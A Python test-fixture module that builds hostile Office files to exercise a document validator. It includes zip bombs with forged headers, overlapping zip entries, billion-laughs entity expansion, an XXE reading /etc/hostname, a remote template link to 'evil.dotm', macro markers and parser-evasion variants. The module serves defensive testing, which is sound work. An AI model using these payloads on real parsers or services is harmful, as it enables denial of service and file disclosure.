"""Hostile office files, made by program; the large ones are never unpacked, not even to make them."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from copy import copy

MEBIBYTE = 1 << 20
SHEET = "xl/worksheets/sheet1.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
LETTER = "word/document.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
FOOT = "</sheetData></worksheet>"
CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
REMOTE = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)
ENTITIES = '<!DOCTYPE z [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(8)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def honest_workbook() -> bytes:
    """A small workbook as the library writes it."""
    from openpyxl import Workbook

    book, saved = Workbook(), io.BytesIO()
    assert book.active is not None
    book.active["A1"], book.active["B1"] = "申请人", "文"
    book.save(saved)
    return saved.getvalue()


def honest_letter() -> bytes:
    """A small letter as the library writes it."""
    from docx import Document

    document, saved = Document(), io.BytesIO()
    document.add_paragraph("正文")
    document.save(saved)
    return saved.getvalue()


def repacked(
    content: bytes, changed: Mapping[str, str | bytes], added: Mapping[str, str | bytes] | None = None
) -> bytes:
    """The file with some parts in place of its own, and with more of them."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, changed.get(name, old.read(name)))
        for name in set(changed) - set(old.namelist()):
            new.writestr(name, changed[name])
        for name, part in (added or {}).items():
            new.writestr(name, part)
    return target.getvalue()


def read_part(content: bytes, name: str) -> str:
    """A part of the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name).decode()


def bomb(content: bytes, name: str, pieces: Iterable[tuple[str, int]], *, right: bool = False) -> bytes:
    """The file with a part of repeated pieces: each is packed once and copied as often as wanted.

    The checksum at the end of so large a part is only reckoned where it must be `right`.
    """
    packed, size, sum_of = [], 0, 0
    for piece, times in pieces:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        plain = piece.encode()
        packed.append((packer.compress(plain) + packer.flush(zlib.Z_FULL_FLUSH)) * times)
        size += len(plain) * times
        for _ in range(times if right else 0):
            sum_of = zlib.crc32(plain, sum_of)
    stream = b"".join(packed) + b"\x03\x00"
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(target, "w") as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        _append(new, name, stream, size, sum_of)
    return target.getvalue()


def _append(archive: zipfile.ZipFile, name: str, stream: bytes, size: int, sum_of: int) -> None:
    """Write a part that is packed already; the library has no way for that, so its directory is mended."""
    archive.writestr(name, stream, zipfile.ZIP_STORED)
    entry = archive.infolist()[-1]
    entry.compress_type, entry.CRC, entry.file_size = zipfile.ZIP_DEFLATED, sum_of, size
    assert archive.fp is not None
    archive.fp.seek(entry.header_offset + 8)
    archive.fp.write(struct.pack("<H", zipfile.ZIP_DEFLATED))
    archive.fp.seek(entry.header_offset + 14)
    archive.fp.write(struct.pack("<III", sum_of, len(stream), size))
    archive.fp.seek(archive.start_dir)


def overlapping(content: bytes, part: bytes, times: int) -> bytes:
    """The file with many entries for one place."""
    target = io.BytesIO(repacked(content, {}, {"word/media/a.bin": part}))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.filelist += [copy(archive.infolist()[-1]) for _ in range(times)]
        archive.writestr("word/media/b.bin", b"x")
    return target.getvalue()


def hostile_files() -> dict[str, bytes]:
    """All of them, by name."""
    book, letter = honest_workbook(), honest_letter()
    return {**_workbooks(book), **_more_workbooks(book), **_letters(letter), **_letter_tricks(letter)}


def _workbooks(book: bytes) -> dict[str, bytes]:
    row = '<row><c t="inlineStr"><is><t>A</t></is></c></row>'
    outside = f'<?xml version="1.0"?>{OUTSIDE}{HEAD.split("?>")[1]}{CELL.format("&x;")}{FOOT}'
    entity = f'<?xml version="1.0"?>{ENTITIES}{HEAD.split("?>")[1]}{CELL.format("&i;")}{FOOT}'
    open_cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>'
    return {
        "rows5M.xlsx": bomb(book, SHEET, [(HEAD, 1), (row * 4000, 1250), (FOOT, 1)]),
        "cell1G.xlsx": bomb(book, SHEET, [(HEAD + open_cell, 1), ("A" * MEBIBYTE, 1024), (FOOT, 1)]),
        "entity.xlsx": repacked(book, {SHEET: entity}),
        "xxe.xlsx": repacked(book, {SHEET: outside}),
    }


def _more_workbooks(book: bytes) -> dict[str, bytes]:
    """Bombs that stay below the limits of an archive: only who counts while reading sees them."""
    noise = os.urandom(MEBIBYTE // 2).hex()
    cells = [f'<c t="inlineStr"><is><t>{noise[at : at + 12]}</t></is></c>' for at in range(0, 24_000, 12)]
    filled = "".join(f"<row>{''.join(cells[at : at + 20])}</row>" for at in range(0, 2000, 20))
    strings = "xl/sharedStrings.xml"
    more = '<Relationship Id="r99" Type="x/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    relations = read_part(book, RELATIONS).replace("</Relationships>", more)
    types = read_part(book, "[Content_Types].xml")
    deep = {SHEET: f'<worksheet xmlns="{MAIN}">' + "<x>" * 300_000}
    many = "".join(f"<a{n}/>" for n in range(300_000))
    return {
        "rows60k.xlsx": bomb(book, SHEET, [(HEAD, 1), (filled, 600), (FOOT, 1)]),
        "columns.xlsx": repacked(book, {SHEET: HEAD + '<row r="1"><c r="XFD1"><v>1</v></c></row>' + FOOT}),
        "cell20M.xlsx": repacked(book, {SHEET: HEAD + CELL.format(noise * 20) + FOOT}),
        "tag20M.xlsx": repacked(book, {SHEET: HEAD + f'<row r="{noise * 20}"/>' + FOOT}),
        "depth.xlsx": repacked(book, deep),
        "names.xlsx": repacked(book, {SHEET: HEAD + many + FOOT}),
        "strings.xlsx": bomb(
            repacked(book, {RELATIONS: relations, strings: ""}), strings,
            [("<sst>", 1), (f"<si><t>{noise[:1000] * 60}</t></si>", 1500), ("</sst>", 1)], right=True,
        ),
        "types.xlsx": repacked(book, {"[Content_Types].xml": types.replace("</Types>", " " * 5_000_000 + "</Types>")}),
        "external.xlsx": repacked(book, {}, {"xl/worksheets/_rels/sheet1.xml.rels": REMOTE}),
        "macro.xlsx": repacked(book, {"[Content_Types].xml": types.replace("sheet.main", "sheet.macroEnabled.main")}),
    }  # fmt: skip


def _letters(letter: bytes) -> dict[str, bytes]:
    text = read_part(letter, LETTER)
    at = text.index("<w:p>")
    paragraphs = "<w:p><w:r><w:t>A</w:t></w:r></w:p>" * 20_000
    entity = text.replace("<w:document", ENTITIES + "<w:document", 1).replace("正文", "&i;")
    outside = text.replace("<w:document", OUTSIDE + "<w:document", 1).replace("正文", "&x;")
    parts: dict[str, str | bytes] = {
        "word/_rels/settings.xml.rels": REMOTE,
        "word/vbaProject.bin": OLE[:4],
        "word/embeddings/oleObject1.bin": OLE[:4],
    }
    return {
        "paras16M.docx": bomb(letter, LETTER, [(text[:at], 1), (paragraphs, 800), (text[at:], 1)]),
        "entity.docx": repacked(letter, {LETTER: entity}),
        "xxe.docx": repacked(letter, {LETTER: outside}),
        "remote.docx": repacked(letter, {}, parts),
        "overlap.docx": overlapping(letter, bytes(20 * MEBIBYTE), 200),
    }  # fmt: skip


def _letter_tricks(letter: bytes) -> dict[str, bytes]:
    """One trick a file, so that each rule is tested alone."""
    text = read_part(letter, LETTER)
    at, doctype = text.index("<w:document"), '<!DOCTYPE z [<!ENTITY x "y">]>'
    behind = text[:at] + "<!--" + "p" * 9000 + "-->" + doctype + text[at:]
    wide = ("<?xml version='1.0' encoding='UTF-16'?>" + doctype + text[at:]).encode("utf-16")
    rels = "word/_rels/settings.xml.rels"
    return {
        "remote_only.docx": repacked(letter, {}, {rels: REMOTE}),
        "remote_quote.docx": repacked(
            letter, {}, {rels: REMOTE.replace('TargetMode="External"', "TargetMode='External'")}
        ),
        "dtd_after_comment.docx": repacked(letter, {LETTER: behind}),
        "dtd_utf16.docx": repacked(letter, {LETTER: wide}),
        "overlap_lowratio.docx": overlapping(letter, os.urandom(300_000), 50),
        "renamed_macro.docx": repacked(letter, {}, {"word/x.bin": OLE + bytes(100)}),
    }
